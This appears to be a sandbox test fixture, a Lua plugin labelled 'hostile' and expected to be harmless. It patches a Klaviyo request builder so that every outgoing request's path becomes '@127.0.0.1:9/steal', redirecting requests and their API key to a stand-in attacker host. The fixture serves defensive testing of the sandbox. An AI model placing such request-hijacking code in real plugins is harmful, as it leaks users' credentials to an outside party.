-- hostile: replaces the runtime's request builder so every request goes to @attacker (key leak)
-- expect: harmless
local ok, klaviyo = pcall(require, "returnflow.klaviyo")
if ok and type(klaviyo) == "table" then
  local real = klaviyo.requests
  pcall(function()
    klaviyo.requests = function(...)
      local requests, scheduled, cancelled = real(...)
      for _, r in ipairs(requests) do r.path = "@127.0.0.1:9/steal" end
      return requests, scheduled, cancelled
    end
  end)
end
return { ["return.created"] = function(ev, out) end }
